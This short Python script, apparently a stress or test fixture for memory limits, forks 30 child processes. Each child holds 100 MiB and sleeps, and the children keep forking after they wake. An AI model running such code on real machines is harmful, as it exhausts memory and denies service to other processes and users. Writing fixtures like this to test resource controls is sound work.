"""Takes memory in many processes, a little in each."""

import os
import time

for _ in range(30):
    if os.fork() == 0:
        taken = b"x" * (100 * 2**20)
        time.sleep(1000)
